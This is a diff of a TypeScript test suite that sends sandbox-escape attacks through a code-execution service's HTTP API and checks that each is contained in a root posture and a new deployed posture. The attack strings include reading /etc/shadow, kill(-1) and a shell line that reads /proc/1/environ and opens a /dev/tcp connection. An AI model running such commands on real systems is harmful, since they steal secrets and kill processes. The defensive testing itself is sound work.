@@ -4,13 +4,15 @@ import type { AddressInfo } from 'node:net'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { api, execute, startTestService } from '../support/local'
 
-// Attacks through the public HTTP API against the local server (root posture: each block runs as
-// its own slot uid, in an empty network namespace, under seccomp). Each one checks what the caller
-// gets back and, from outside, that nothing escaped: no marker file, no surviving process, the
-// server healthy and another organization's next request unaffected. The deployed posture (one
-// non-root uid, no namespaces) runs the same attacks at the runtime level in
-// python-runtime/tests/test_isolation.py and test_limits.py.
+// Attacks through the public HTTP API against the local server, in both postures:
+// - root: each block runs as its own slot uid, in an empty network namespace, under seccomp;
+// - deployed: as inside Lambda, each worker (runner and blocks) runs as one non-root uid of its
+//   own, with no namespaces; cleanup is the subreaper's stop-then-kill sweep.
+// Each attack checks what the caller gets back and, from outside, that nothing escaped: no
+// marker file, no surviving process, no connection to a loopback listener, and another
+// organization's next request unaffected.
 const UID_BASE = 62900
+const WORKER_UID_BASE = 64100
 const SECRET = 'server-secret-7c1e55aa'
 const MARKER = `/var/tmp/sci-attack-marker-${process.pid}`
 
@@ -38,52 +40,53 @@ const children = (pid: number): number[] => {
   }
 }
 
-/** Live processes of the slot uids that are not a zygote's standby. */
+const cmdline = (pid: number) => {
+  try {
+    return readFileSync(`/proc/${pid}/cmdline`, 'utf8')
+  } catch {
+    return ''
+  }
+}
+
+/** Live processes of the blocks' uids other than the workers' runners, zygotes and standbys. */
 function survivors(): number[] {
-  const zygotes = new Set(ctx.service.pool.workerPids().flatMap(children))
+  const runners = new Set(ctx.service.pool.workerPids())
+  const zygotes = new Set([...runners].flatMap(children).filter((pid) => cmdline(pid).includes('zygote.py')))
+  const blockUid = (uid: number) =>
+    posture === 'root' ? uid >= UID_BASE && uid < UID_BASE + 16 : uid >= WORKER_UID_BASE && uid < WORKER_UID_BASE + 2
   const found: number[] = []
   for (const entry of readdirSync('/proc')) {
     if (!/^\d+$/.test(entry)) continue
-    const st = status(Number(entry))
+    const pid = Number(entry)
+    const st = status(pid)
     if (!st || st.State?.startsWith('Z')) continue
-    const uid = Number(st.Uid?.split(/\s+/)[0])
-    if (uid >= UID_BASE && uid < UID_BASE + 16 && !zygotes.has(Number(st.PPid))) found.push(Number(entry))
+    if (runners.has(pid) || zygotes.has(pid) || zygotes.has(Number(st.PPid))) continue
+    if (blockUid(Number(st.Uid?.split(/\s+/)[0]))) found.push(pid)
   }
   return found
 }
 
 async function settle() {
-  for (let i = 0; i < 100; i++) {
+  for (let i = 0; i < 150; i++) {
     const s = ctx.service.pool.stats()
-    if (s.busy === 0 && s.queued === 0 && survivors().length === 0) return
+    if (s.busy === 0 && s.queued === 0 && s.starting === 0 && survivors().length === 0) return
     await new Promise((r) => setTimeout(r, 20))
   }
 }
 
-beforeAll(async () => {
-  process.env.PROVIDER_SECRET_FOR_ATTACK_TEST = SECRET
-  ctx = await startTestService({ SANDBOX_SLOT_UID_BASE: String(UID_BASE), CODE_TIMEOUT_MS: '3000' })
-  victimKey = await ctx.service.issueKey('org_victim')
-  listener = createServer((socket) => {
-    hits += 1
-    socket.destroy()
-  })
-  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', () => r()))
-})
-afterAll(async () => {
-  delete process.env.PROVIDER_SECRET_FOR_ATTACK_TEST
-  listener?.close()
-  rmSync(MARKER, { force: true })
-  await ctx?.stop()
-})
+let posture: 'root' | 'deployed' = 'root'
+
+type Expect = 'failed' | 'timed_out' | 'completed' | 'not-completed' | 'any' | 'sandbox_unavailable'
 
 interface Attack {
   name: string
   code: (ports: { listener: number; api: number; lambda: number }) => string
   /** What the caller must get back. */
-  expect: 'failed' | 'timed_out' | 'completed' | 'not-completed' | 'any'
+  expect: Expect
   /** A check of the outputs (e.g. the message names what was refused). */
   check?: (body: any) => void
+  /** Where the deployed posture differs (one uid for runner and block), and why. */
+  deployed?: { expect: Expect; check?: (body: any) => void }
 }
 
 const noSecret = (body: any) => expect(JSON.stringify(body)).not.toContain(SECRET)
@@ -119,7 +122,8 @@ const ATTACKS: Attack[] = [
   { name: 'a .pth for the next interpreter', code: () => "open('/tmp/zzz-evil.pth', 'w').write('import os')", expect: 'completed' },
   { name: 'a symlink to /etc/shadow', code: () => "import os\nos.symlink('/etc/shadow', 'shadow.txt')", expect: 'completed', check: (b) => expect(b.outputs.some((o: any) => o.type === 'file')).toBe(false) },
   { name: 'reading /etc/shadow', code: () => "print(open('/etc/shadow').read())", expect: 'failed', check: errorName('PermissionError') },
-  { name: '.. out of the scratch root', code: () => "import os\nprint(os.listdir('../..'))\nprint(os.listdir('..'))", expect: 'failed' },
+  // Deployed: one uid for all, so the scratch root lists (only waiting standbys' empty directories).
+  { name: '.. out of the scratch root', code: () => "import os\nprint(os.listdir('../..'))\nprint(os.listdir('..'))", expect: 'failed', deployed: { expect: 'completed' } },
   { name: 'a huge file', code: () => "f = open('big', 'wb')\nwhile True: f.write(b'x' * (1 << 20))", expect: 'failed', check: (b) => expect(JSON.stringify(b)).toContain('File too large') },
   { name: 'many files', code: () => "for i in range(3000): open(f'f{i}', 'w').write('x')", expect: 'completed' },
   // processes
@@ -130,8 +134,10 @@ const ATTACKS: Attack[] = [
   { name: 'a thread that keeps running', code: () => `import threading, time\ndef later():\n    time.sleep(1)\n    open('${MARKER}', 'w').write('thread')\nthreading.Thread(target=later).start()`, expect: 'completed' },
   { name: 'ignoring SIGTERM past the limit', code: () => "import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True: time.sleep(0.01)", expect: 'timed_out' },
   { name: 'os._exit', code: () => "import os\nos._exit(9)", expect: 'failed', check: (b) => expect(JSON.stringify(b)).toContain('status 9') },
-  { name: 'killing the parent', code: () => "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", expect: 'failed', check: errorName('PermissionError') },
-  { name: 'kill(-1)', code: () => "import os, signal\nos.kill(-1, signal.SIGKILL)\nprint('alive')", expect: 'completed' },
+  // Deployed: the zygote shares the block's uid; killing it costs the next block a zygote start.
+  { name: 'killing the parent', code: () => "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", expect: 'failed', check: errorName('PermissionError'), deployed: { expect: 'completed' } },
+  // Deployed: kill(-1) reaches the runner; the invocation fails and the worker is replaced.
+  { name: 'kill(-1)', code: () => "import os, signal\nos.kill(-1, signal.SIGKILL)\nprint('alive')", expect: 'completed', deployed: { expect: 'sandbox_unavailable' } },
   // native code and programs
   { name: 'ctypes loading a library', code: () => "import ctypes\nctypes.CDLL('libc.so.6')", expect: 'failed', check: errorName('PermissionError') },
   { name: 'os.system', code: () => "import os\nos.system('id')", expect: 'failed', check: errorName('PermissionError') },
@@ -151,7 +157,33 @@ const ATTACKS: Attack[] = [
   { name: '_posixsubprocess.fork_exec', code: (p) => `import _posixsubprocess, os\nr, w = os.pipe()\npid = _posixsubprocess.fork_exec([b'/bin/sh', b'-c', b'id -u; cat /proc/1/environ; exec 3<>/dev/tcp/127.0.0.1/${p.listener}'], [b'/bin/sh'], True, (w,), None, None, -1, -1, -1, -1, w, w, -1, -1, False, False, -1, None, None, None, -1, None, False)\nos.close(w)\nos.waitpid(pid, 0)\nprint(os.read(r, 10000).decode())`, expect: 'any', check: noSecret },
 ]
 
-describe('attacks through the HTTP API (root posture)', () => {
+describe.each([
+  ['root', {}],
+  ['deployed', { SANDBOX_WORKER_UID_BASE: String(WORKER_UID_BASE) }],
+] as const)('attacks through the HTTP API (%s posture)', (name, env) => {
+  beforeAll(async () => {
+    posture = name
+    process.env.PROVIDER_SECRET_FOR_ATTACK_TEST = SECRET
+    ctx = await startTestService({ SANDBOX_SLOT_UID_BASE: String(UID_BASE), CODE_TIMEOUT_MS: '3000', ...env })
+    victimKey = await ctx.service.issueKey('org_victim')
+    listener = createServer((socket) => {
+      hits += 1
+      socket.destroy()
+    })
+    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', () => r()))
+  })
+  afterAll(async () => {
+    delete process.env.PROVIDER_SECRET_FOR_ATTACK_TEST
+    listener?.close()
+    rmSync(MARKER, { force: true })
+    await ctx?.stop()
+  })
+
+  it('runs in the posture it claims', async () => {
+    expect(ctx.service.layers.posture).toBe(name)
+    expect(ctx.service.layers.seccomp).toBe(true)
+  })
+
   it('has at least 40 distinct attacks', () => {
     expect(new Set(ATTACKS.map((a) => a.name)).size).toBe(ATTACKS.length)
     expect(ATTACKS.length).toBeGreaterThanOrEqual(40)
@@ -163,16 +195,22 @@ describe('attacks through the HTTP API (root posture)', () => {
       api: Number(new URL(ctx.service.url).port),
       lambda: Number(new URL(ctx.service.lambdaUrl).port),
     }
+    const expected = (posture === 'deployed' && attack.deployed) || attack
     rmSync(MARKER, { force: true })
     const hitsBefore = hits
     const res = await execute(ctx.service, attack.code(ports))
-    // The caller gets a clean result, never a server error.
-    expect(res.status).toBe(200)
-    const got = res.body.status
-    if (attack.expect === 'not-completed') expect(['failed', 'timed_out']).toContain(got)
-    else if (attack.expect !== 'any') expect(got).toBe(attack.expect)
-    attack.check?.(res.body)
     noSecret(res.body)
+    if (expected.expect === 'sandbox_unavailable') {
+      expect(res.status).toBe(503)
+      expect(res.body.error.code).toBe('sandbox_unavailable')
+    } else {
+      // The caller gets a clean result, never a server error.
+      expect(res.status).toBe(200)
+      const got = res.body.status
+      if (expected.expect === 'not-completed') expect(['failed', 'timed_out']).toContain(got)
+      else if (expected.expect !== 'any') expect(got).toBe(expected.expect)
+      expected.check?.(res.body)
+    }
     // Nothing escaped, checked from outside.
     await settle()
     expect(survivors()).toEqual([])
